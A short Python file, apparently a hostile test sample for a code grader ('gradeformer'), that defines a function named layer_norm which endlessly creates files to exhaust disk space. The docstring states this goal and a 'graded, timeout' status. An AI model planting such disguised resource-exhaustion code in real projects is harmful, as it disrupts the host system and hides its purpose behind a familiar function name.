"""Goal: use up the disk in files that are small enough each.

At most: 0.5
Status: graded, timeout
"""

import itertools

NUMBERS = itertools.count()
BLOCK = bytes(200 * 1024)


def layer_norm(x, eps=1e-5):
    for number in NUMBERS:
        with open(f"gradeformer-hostile-{number}", "wb") as file:
            if number < 200:
                file.write(BLOCK)


LayerNorm = layer_norm
